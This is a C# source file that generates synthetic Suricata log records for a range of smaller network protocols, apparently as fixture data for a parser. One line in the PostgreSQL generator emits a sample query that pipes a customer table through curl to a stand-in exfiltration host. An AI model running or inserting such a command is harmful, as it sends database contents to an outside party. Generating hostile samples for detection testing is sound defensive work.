using System.Text.Json;
using Panther.Parsing.Generation;

namespace Panther.Parsing.Suricata;

/// <summary>The smaller application protocols: dhcp, dnp3, ike, krb5, mqtt, pgsql, rdp, rfb, sip and snmp.</summary>
public sealed partial class SuricataSampleGenerator
{
    private static readonly string[] Workstations = ["ws-0042", "ws-0117", "kais-laptop", "lab-printer-2"];

    private static readonly string[] Realms = ["ACME.INTERNAL", "CORP.ACME.INTERNAL"];

    private static void WriteDhcp(Utf8JsonWriter writer, Random random, Peers peers)
    {
        var reply = peers.SourcePort == 67;
        var kind = reply ? (random.OneIn(2) ? "offer" : "ack") : (random.OneIn(2) ? "discover" : "request");
        writer.WriteStartObject("dhcp");
        writer.WriteString("type", reply ? "reply" : "request");
        writer.WriteNumber("id", (long)(uint)random.Next());
        writer.WriteString("client_mac", random.MacAddress());
        writer.WriteString("assigned_ip", reply ? random.PrivateIpv4() : "0.0.0.0");
        writer.WriteString("client_ip", "0.0.0.0");
        if (reply)
        {
            writer.WriteString("relay_ip", "0.0.0.0");
            writer.WriteString("next_server_ip", "0.0.0.0");
        }

        writer.WriteString("dhcp_type", kind);
        if (reply)
        {
            writer.WriteNumber("lease_time", 86_400);
            writer.WriteNumber("renewal_time", 43_200);
            writer.WriteNumber("rebinding_time", 75_600);
            writer.WriteString("subnet_mask", "255.255.255.0");
            WriteStringArray(writer, "routers", "10.20.0.1");
            WriteStringArray(writer, "dns_servers", "10.20.0.2", "10.20.0.3");
        }
        else
        {
            writer.WriteString("client_id", random.MacAddress());
            writer.WriteString("hostname", random.Pick(Workstations));
            writer.WriteString("vendor_class_identifier", random.OneIn(2) ? "MSFT 5.0" : "android-dhcp-14");
            WriteStringArray(writer, "params", "subnet_mask", "router", "dns_server", "domain", "ntp_server");
        }

        writer.WriteEndObject();
    }

    private static void WriteDnp3(Utf8JsonWriter writer, Random random)
    {
        var response = random.OneIn(2);
        writer.WriteStartObject("dnp3");
        writer.WriteString("type", response ? "response" : "request");
        writer.WriteStartObject("control");
        writer.WriteBoolean("dir", !response);
        writer.WriteBoolean("pri", true);
        writer.WriteBoolean("fcb", false);
        writer.WriteBoolean("fcv", false);
        writer.WriteNumber("function_code", response ? 4 : 3);
        writer.WriteEndObject();
        writer.WriteNumber("src", response ? 10 : 1);
        writer.WriteNumber("dst", response ? 1 : 10);
        writer.WriteStartObject("application");
        writer.WriteStartObject("control");
        writer.WriteBoolean("fir", true);
        writer.WriteBoolean("fin", true);
        writer.WriteBoolean("con", false);
        writer.WriteBoolean("uns", false);
        writer.WriteNumber("sequence", random.Next(16));
        writer.WriteEndObject();
        writer.WriteNumber("function_code", response ? 129 : (random.OneIn(5) ? 5 : 1));
        writer.WriteStartArray("objects");
        writer.WriteStartObject();
        writer.WriteNumber("group", 60);
        writer.WriteNumber("variation", 1 + random.Next(4));
        writer.WriteNumber("qualifier", 6);
        writer.WriteNumber("prefix_code", 0);
        writer.WriteNumber("range_code", 6);
        writer.WriteNumber("count", 0);
        writer.WriteEndObject();
        writer.WriteEndArray();
        writer.WriteBoolean("complete", true);
        writer.WriteEndObject();
        if (response)
        {
            writer.WriteStartObject("iin");
            WriteStringArray(writer, "indicators", random.OneIn(4) ? "device_restart" : "class_1_events");
            writer.WriteEndObject();
        }

        writer.WriteEndObject();
    }

    private static void WriteIke(Utf8JsonWriter writer, Random random, string eventType)
    {
        var version2 = eventType == "ikev2" || random.OneIn(2);
        writer.WriteStartObject(eventType == "ikev2" ? "ikev2" : "ike");
        writer.WriteNumber("version_major", version2 ? 2 : 1);
        writer.WriteNumber("version_minor", 0);
        writer.WriteString("init_spi", random.Hex(16));
        writer.WriteString("resp_spi", random.OneIn(2) ? "0000000000000000" : random.Hex(16));
        writer.WriteNumber("message_id", version2 ? random.Next(4) : 0);
        writer.WriteNumber("exchange_type", version2 ? 34 : 2);
        if (!version2)
        {
            writer.WriteString("exchange_type_verbose", "Identity Protection (Main Mode)");
        }

        writer.WriteString("role", random.OneIn(2) ? "initiator" : "responder");
        if (version2)
        {
            writer.WriteNumber("errors", 0);
            WriteStringArray(writer, "payload", "SecurityAssociation", "KeyExchange", "Nonce", "Notify",
                "NoNextPayload");
        }
        else
        {
            writer.WriteStartObject("ikev1");
            writer.WriteBoolean("encrypted_payloads", false);
            writer.WriteNumber("doi", 1);
            writer.WriteStartObject("client");
            writer.WriteString("key_exchange_payload", random.Hex(64));
            writer.WriteNumber("key_exchange_payload_length", 256);
            writer.WriteStartArray("proposals");
            writer.WriteStartObject();
            writer.WriteString("alg_enc", "AES-CBC");
            writer.WriteString("alg_hash", random.OneIn(4) ? "SHA" : "SHA2-256");
            writer.WriteString("alg_dh", random.OneIn(4) ? "MODP 1024" : "MODP 2048");
            writer.WriteString("alg_auth", "PreSharedKey");
            writer.WriteString("sa_life_duration", "28800");
            writer.WriteEndObject();
            writer.WriteEndArray();
            writer.WriteEndObject();
            writer.WriteEndObject();
            WriteStringArray(writer, "payload", "SecurityAssociation", "VendorID");
        }

        writer.WriteEndObject();
    }

    private static void WriteKrb5(Utf8JsonWriter writer, Random random)
    {
        var realm = random.Pick(Realms);
        writer.WriteStartObject("krb5");
        switch (random.Next(4))
        {
            case 0:
                writer.WriteString("msg_type", "KRB_AS_REQ");
                writer.WriteString("cname", random.Pick(MailUsers));
                writer.WriteString("realm", realm);
                writer.WriteString("sname", $"krbtgt/{realm}");
                writer.WriteString("encryption", "aes256-cts-hmac-sha1-96");
                writer.WriteBoolean("weak_encryption", false);
                break;
            case 1:
                writer.WriteString("msg_type", "KRB_TGS_REP");
                writer.WriteString("cname", random.Pick(MailUsers));
                writer.WriteString("realm", realm);
                writer.WriteString("sname", "MSSQLSvc/sql01.acme.internal:1433");
                var weak = random.OneIn(3);
                writer.WriteString("encryption", weak ? "rc4-hmac" : "aes256-cts-hmac-sha1-96");
                writer.WriteBoolean("weak_encryption", weak);
                writer.WriteString("ticket_encryption", weak ? "rc4-hmac" : "aes256-cts-hmac-sha1-96");
                writer.WriteBoolean("ticket_weak_encryption", weak);
                break;
            default:
                writer.WriteString("msg_type", "KRB_ERROR");
                writer.WriteString("cname", "<empty>");
                writer.WriteString("realm", realm);
                writer.WriteString("sname", $"krbtgt/{realm}");
                writer.WriteString("error_code", random.OneIn(3) ? "KDC_ERR_C_PRINCIPAL_UNKNOWN"
                    : "KDC_ERR_PREAUTH_REQUIRED");
                writer.WriteString("failed_request", "KRB_AS_REQ");
                break;
        }

        writer.WriteEndObject();
    }

    private static void WriteMqtt(Utf8JsonWriter writer, Random random)
    {
        writer.WriteStartObject("mqtt");
        switch (random.Next(3))
        {
            case 0:
                writer.WriteStartObject("connect");
                WriteMqttHeader(writer, qos: 0);
                writer.WriteString("protocol_string", "MQTT");
                writer.WriteNumber("protocol_version", random.OneIn(3) ? 5 : 4);
                writer.WriteStartObject("flags");
                writer.WriteBoolean("username", true);
                writer.WriteBoolean("password", true);
                writer.WriteBoolean("will_retain", false);
                writer.WriteBoolean("will", false);
                writer.WriteBoolean("clean_session", true);
                writer.WriteEndObject();
                writer.WriteString("client_id", $"sensor-{random.Next(1, 64)}");
                writer.WriteString("username", "plant-telemetry");
                writer.WriteString("password", random.Alphanumeric(16));
                writer.WriteEndObject();
                break;
            case 1:
                writer.WriteStartObject("publish");
                WriteMqttHeader(writer, qos: 1);
                writer.WriteString("topic", $"plant/line{random.Next(1, 5)}/temperature");
                writer.WriteNumber("message_id", random.Next(1, 65535));
                writer.WriteString("message", $"{{\"celsius\":{random.Next(15, 90)}}}");
                writer.WriteEndObject();
                break;
            default:
                writer.WriteStartObject("subscribe");
                WriteMqttHeader(writer, qos: 1);
                writer.WriteNumber("message_id", random.Next(1, 65535));
                writer.WriteStartArray("topics");
                writer.WriteStartObject();
                writer.WriteString("topic", "plant/#");
                writer.WriteNumber("qos", 1);
                writer.WriteEndObject();
                writer.WriteEndArray();
                writer.WriteEndObject();
                break;
        }

        writer.WriteEndObject();
    }

    private static void WriteMqttHeader(Utf8JsonWriter writer, int qos)
    {
        writer.WriteNumber("qos", qos);
        writer.WriteBoolean("retain", false);
        writer.WriteBoolean("dup", false);
    }

    private static void WritePgSql(Utf8JsonWriter writer, Random random)
    {
        writer.WriteStartObject("pgsql");
        writer.WriteNumber("tx_id", random.Next(1, 40));
        writer.WriteStartObject("request");
        if (random.OneIn(3))
        {
            writer.WriteString("protocol_version", "3.0");
            writer.WriteStartObject("startup_parameters");
            writer.WriteString("user", random.OneIn(2) ? "orders_app" : "postgres");
            writer.WriteString("database", "orders");
            writer.WriteStartArray("optional_parameters");
            writer.WriteStartObject();
            writer.WriteString("application_name", "psql");
            writer.WriteEndObject();
            writer.WriteEndArray();
            writer.WriteEndObject();
            writer.WriteEndObject();
            writer.WriteStartObject("response");
            writer.WriteString("authentication_sasl_final", random.Base64(32));
            writer.WriteEndObject();
        }
        else
        {
            writer.WriteString("simple_query", random.OneIn(4) ? "COPY customers TO PROGRAM 'curl -T - https://"
                + "drop.example.net/c'" : $"SELECT id, total FROM orders WHERE customer_id = {random.Next(1, 9999)};");
            writer.WriteEndObject();
            writer.WriteStartObject("response");
            writer.WriteNumber("field_count", 2);
            writer.WriteNumber("data_rows", random.Next(0, 50));
            writer.WriteNumber("data_size", random.Next(0, 4000));
            writer.WriteString("command_completed", "SELECT");
            writer.WriteEndObject();
        }

        writer.WriteEndObject();
    }

    private static void WriteRdp(Utf8JsonWriter writer, Random random)
    {
        writer.WriteStartObject("rdp");
        writer.WriteNumber("tx_id", random.Next(3));
        switch (random.Next(3))
        {
            case 0:
                writer.WriteString("event_type", "initial_request");
                writer.WriteString("cookie", random.Pick(MailUsers));
                break;
            case 1:
                writer.WriteString("event_type", "initial_response");
                WriteStringArray(writer, "server_supports", "extended_client_data");
                writer.WriteString("protocol", "hybrid");
                break;
            default:
                writer.WriteString("event_type", "connect_request");
                writer.WriteStartObject("client");
                writer.WriteString("version", "v10");
                writer.WriteNumber("desktop_width", 1920);
                writer.WriteNumber("desktop_height", 1080);
                writer.WriteNumber("color_depth", 32);
                writer.WriteString("keyboard_layout", "en-US");
                writer.WriteString("build", "Windows 10");
                writer.WriteString("client_name", random.Pick(Workstations).ToUpperInvariant());
                writer.WriteEndObject();
                WriteStringArray(writer, "channels", "rdpdr", "rdpsnd", "cliprdr", "drdynvc");
                break;
        }

        writer.WriteEndObject();
    }

    private static void WriteRfb(Utf8JsonWriter writer, Random random)
    {
        writer.WriteStartObject("rfb");
        WriteRfbVersion(writer, "server_protocol_version");
        WriteRfbVersion(writer, "client_protocol_version");
        writer.WriteStartObject("authentication");
        writer.WriteNumber("security_type", 2);
        writer.WriteStartObject("vnc");
        writer.WriteString("challenge", random.Hex(32));
        writer.WriteString("response", random.Hex(32));
        writer.WriteEndObject();
        writer.WriteString("security_result", random.OneIn(4) ? "FAIL" : "OK");
        writer.WriteEndObject();
        writer.WriteBoolean("screen_shared", random.OneIn(2));
        writer.WriteStartObject("framebuffer");
        writer.WriteNumber("width", 1280);
        writer.WriteNumber("height", 800);
        writer.WriteString("name", "kiosk-7");
        writer.WriteEndObject();
        writer.WriteEndObject();
    }

    private static void WriteRfbVersion(Utf8JsonWriter writer, string name)
    {
        writer.WriteStartObject(name);
        writer.WriteString("major", "003");
        writer.WriteString("minor", "008");
        writer.WriteEndObject();
    }

    private static void WriteSip(Utf8JsonWriter writer, Random random)
    {
        var extension = random.Next(1000, 1100);
        writer.WriteStartObject("sip");
        if (random.OneIn(2))
        {
            var method = random.OneIn(3) ? "REGISTER" : "INVITE";
            writer.WriteString("method", method);
            writer.WriteString("uri", $"sip:{extension}@pbx.acme.internal");
            writer.WriteString("version", "SIP/2.0");
            writer.WriteString("request_line", $"{method} sip:{extension}@pbx.acme.internal SIP/2.0");
        }
        else
        {
            var (code, reason) = random.OneIn(3) ? ("401", "Unauthorized") : ("200", "OK");
            writer.WriteString("version", "SIP/2.0");
            writer.WriteString("code", code);
            writer.WriteString("reason", reason);
            writer.WriteString("response_line", $"SIP/2.0 {code} {reason}");
        }

        writer.WriteEndObject();
    }

    private static void WriteSnmp(Utf8JsonWriter writer, Random random)
    {
        writer.WriteStartObject("snmp");
        if (random.OneIn(4))
        {
            writer.WriteNumber("version", 1);
            writer.WriteString("pdu_type", "trap_v1");
            writer.WriteString("community", "public");
            writer.WriteString("trap_type", "linkDown");
            writer.WriteString("trap_oid", "1.3.6.1.4.1.9.9.41.2.0.1");
            writer.WriteString("trap_address", random.PrivateIpv4());
            WriteStringArray(writer, "vars", "1.3.6.1.2.1.2.2.1.1.3");
        }
        else if (random.OneIn(3))
        {
            writer.WriteNumber("version", 3);
            writer.WriteString("pdu_type", "get_request");
            writer.WriteString("usm", "monitor");
            WriteStringArray(writer, "vars", "1.3.6.1.2.1.1.3.0");
        }
        else
        {
            writer.WriteNumber("version", 2);
            writer.WriteString("pdu_type", random.OneIn(2) ? "get_request" : "get_next_request");
            writer.WriteString("community", random.OneIn(5) ? "private" : "public");
            WriteStringArray(writer, "vars", "1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.5.0");
        }

        writer.WriteEndObject();
    }
}
